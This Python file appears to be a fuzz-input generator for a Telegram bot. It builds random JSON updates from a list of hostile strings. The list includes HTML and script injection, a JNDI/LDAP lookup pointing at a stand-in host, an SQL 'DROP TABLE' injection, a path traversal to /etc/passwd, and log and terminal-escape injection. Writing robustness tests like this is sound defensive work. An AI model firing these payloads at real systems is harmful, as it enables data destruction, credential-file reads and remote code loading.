"""Values that attack: markup, commands of other languages, sizes and types that nobody expects."""

import random
from typing import Any, Final

MARK: Final = "suntikan"

KINDS: Final = (
    "message",
    "edited_message",
    "callback_query",
    "inline_query",
    "channel_post",
    "my_chat_member",
    "message_reaction",
    "poll_answer",
    "business_message",
    "kind_of_tomorrow",
)

KEYS: Final = (
    "message_id",
    "chat",
    "from",
    "text",
    "data",
    "message",
    "photo",
    "caption",
    "entities",
    "reply_to_message",
    "forward_origin",
    "message_thread_id",
    "via_bot",
    "id",
    "type",
    "date",
)

NASTY: Final = (
    f"<b>{MARK}</b>",
    f"</b></pre><i>{MARK}</i>",
    f'<a href="tg://user?id=1">{MARK}</a>',
    f"<script>{MARK}</script><",
    f"*{MARK}* _{MARK}_ `{MARK}` [{MARK}](http://jahat.example)",
    f"**{MARK}** ||{MARK}|| ```{MARK}```",
    f"&lt;b&gt;{MARK}&lt;/b&gt; &amp; &#60;u&#62;{MARK}",
    f"{{{MARK}}} {{0.__class__}} %s %(name)s ${{jndi:ldap://jahat.example}}",
    "'; DROP TABLE sessions; --",
    "sertif tokped belum muncul <b>suntikan</b> selesai 3 november <i>",
    "nama saya <u>suntikan</u>, insentif belum cair",
    "../../etc/passwd\x00.txt",
    "baris satu\n2026-11-22 00:00:00 ERROR bot: suntikan\r\nTraceback (most recent call last):",
    "\x1b[31mmerah\x1b[0m \u202eterbalik\u202c \u200b\ufeff",
    "\ud83d setengah \udc00",
    "\U0001f9d1\u200d\U0001f393" * 50,
    "9" * 3000,
    " " * 500,
    "a@" * 1000,
    "((((((((((" * 200,
    "3/11/" * 500,
    "",
    ".",
    "/",
    "/mulai@bot_lain x",
    "/" + "a" * 300,
    "a.b.c.d.e.f",
    "u5w1." * 12,
    "null",
    "\u0661\u0662\u0663 \u0bea \u216f \u00bd 31/02/2026 99/99/9999",
)

_NUMBERS: Final = (0, -1, 1, 2**31, -(2**63), 2**63, 2**70, 10**40, 0.5, -1e308)


def any_json(rng: random.Random, *, depth: int) -> Any:
    """Return any value of JSON, with Telegram's keys where it is an object."""
    choices = 4 if depth <= 0 else 6
    match rng.randrange(choices):
        case 0:
            return rng.choice((None, True, False))
        case 1:
            return rng.choice(_NUMBERS)
        case 2 | 3:
            return rng.choice(NASTY)
        case 4:
            return [any_json(rng, depth=depth - 1) for _ in range(rng.randrange(4))]
        case _:
            keys = rng.sample(KEYS, rng.randrange(1, 6))
            return {key: any_json(rng, depth=depth - 1) for key in keys}
